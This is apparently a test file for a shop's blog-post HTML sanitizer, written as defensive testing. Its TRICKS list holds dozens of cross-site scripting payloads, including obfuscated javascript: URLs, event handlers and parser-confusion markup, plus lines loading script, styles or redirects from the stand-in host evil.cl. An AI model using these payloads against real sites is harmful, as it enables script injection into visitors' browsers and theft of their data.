// Hostile posts: whatever the Markdown or HTML, nothing that runs or leaves the shop unseen is in what is shown.
import { describe, expect, test } from 'vitest'
import type { ContentFacts } from '#shop/publishing/files/content-facts.ts'
import { ALLOWED_ATTRIBUTES, ALLOWED_ELEMENTS, postHtml, wordsIn } from './post-html.ts'

const facts: ContentFacts = {
  trade: {
    brands: new Map(),
    ownCategories: new Map(),
    stores: new Set(),
    communes: new Set(['Las Condes', 'Ñuñoa']),
    spentCoupons: new Map(),
  },
  products: new Map(),
  categories: new Set(),
  nearestPage: () => '',
  leadsToAlcohol: () => false,
  isPage: (path) => path === '/categorias/vinos',
  pictures: new Map([
    ['foto.jpg', { hash: '0123456789abcdef', width: 1600, height: 900 }],
    ['baja.jpg', { hash: 'fedcba9876543210', width: 700, height: 400 }],
  ]),
  pictureAddress: (hash, width) => `/fotos/c-${hash}-${width}.avif`,
  pictureWidths: [480, 960, 1600],
  checkSettings: () => [],
}
const show = (text: string) => postHtml(text, { facts, before: 0 })

const TRICKS: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.cl/x.js></sCrIpT>',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script><!--</script><img src=x onerror=alert(1)>-->',
  '<img src=x onerror=alert(1)>',
  '<img src="foto.jpg" onload=alert(1)>',
  '<img src="foto.jpg"/onload=alert(1)>',
  '<img src=foto.jpg srcset="https://evil.cl/p.png 1x">',
  '<img src="javascript:alert(1)">',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zy8+)',
  '![x](//evil.cl/pixel.png)',
  '![x" onerror="alert(1)](foto.jpg)',
  '![x](foto.jpg "a\\" onerror=\\"alert(1)")',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#115;cript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox(1))',
  '[x](//evil.cl)',
  '[x](/\\evil.cl)',
  '[x](\\\\evil.cl)',
  '[x](https:evil.cl)',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<a href="//evil.cl">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="/categorias/vinos" onclick=alert(1) target=_blank ping=https://evil.cl>x</a>',
  '<a href="/categorias/vinos" style="background:url(javascript:alert(1))">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<style>@import "https://evil.cl/x.css"</style>',
  '<p style="position:fixed;inset:0">x</p>',
  '<link rel=stylesheet href=https://evil.cl/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.cl">',
  '<base href="https://evil.cl/">',
  '<form action="https://evil.cl"><input name=q><button formaction=javascript:alert(1)>x</button></form>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src=javascript:alert(1)>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.cl/x.swf">',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><script>alert(1)</script>',
  '<xmp><p title="</xmp><script>alert(1)</script>"></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE html><body onload=alert(1)>',
  '<p id=cart name=cookie class=dialog data-x=1 is=x-y>x</p>',
  '<h2 id="__proto__" onfocus=alert(1) tabindex=1 autofocus>x</h2>',
  '<p/onclick=alert(1)>x',
  '<<p>script>alert(1)<</p>/script>',
  '<table background="javascript:alert(1)"><tr><td onmouseover=alert(1)>x</td></tr></table>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '<p>\0<script>alert(1)</script></p>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<img src="foto.jpg" alt="` onerror=alert(1) `">',
  '<img src="foto.jpg" alt="\'><script>alert(1)</script>">',
]

/** The elements of a text as a browser would read its plain tags: it has no others. */
function elementsOf(html: string) {
  const tags = [...html.matchAll(/<(\/?)([^\s>/]*)([^>]*)>/g)]
  return tags
    .filter(([, end]) => end === '')
    .map(([, , name = '', rest = '']) => ({
      name,
      attributes: [...rest.matchAll(/([^\s=/"]+)(?:="([^"]*)")?/g)].map(
        ([, key = '', value = '']) => [key, value] as const,
      ),
    }))
}

describe('nothing of a trick runs', () => {
  test.each(TRICKS)('%s', (trick) => {
    const { html } = show(`Antes\n\n${trick}\n\nDespués`)
    for (const { name, attributes } of elementsOf(html)) {
      expect(ALLOWED_ELEMENTS).toContain(name)
      for (const [key, value] of attributes) {
        expect(ALLOWED_ATTRIBUTES[name] ?? []).toContain(key)
        if (key === 'href') expect(value).toMatch(/^(\/categorias\/vinos|https:\/\/[a-z])/)
        if (key === 'src') expect(value).toBe('/fotos/c-0123456789abcdef-960.avif')
        if (key === 'srcset') expect(value).not.toContain('evil')
        if (key === 'id') expect(value).toMatch(/^nota-[a-z0-9-]+$/)
      }
    }
    expect(html.replace(/<[^<>]*>/g, ''), 'no tag is left open').not.toMatch(/[<>]/)
  })
})

test('what is left out is reported, with its line', () => {
  const { faults } = show('Hola\n\n- uno\n- <b>dos</b>\n\n<p onclick="x">tres</p>')
  expect(faults).toEqual([
    { line: 4, fault: { code: 'html', what: '<b>' } },
    { line: 6, fault: { code: 'html', what: 'onclick' } },
  ])
})

test('headings have an id each, tables their header cells', () => {
  const { html, faults } = show('## Piscola\n\n## Piscola\n\n| a | b |\n|---|:-:|\n| 1 | 2 |')
  expect(faults).toEqual([])
  expect(html).toContain('<h2 id="nota-piscola">Piscola</h2>\n<h2 id="nota-piscola-2">')
  expect(html).toContain('<th scope="col">a</th>')
})

test('words are counted without marks', () => {
  expect(wordsIn('<p>Tres <strong>palabras</strong> solas.</p><hr /><p>— 4</p>')).toBe(4)
})

test('a picture is never said to be wider than it is', () => {
  const { html } = show('![Una copa](baja.jpg)')
  expect(html).toContain('srcset="/fotos/c-fedcba9876543210-480.avif 480w, /fotos/c-fedcba9876543210-960.avif 700w"')
})
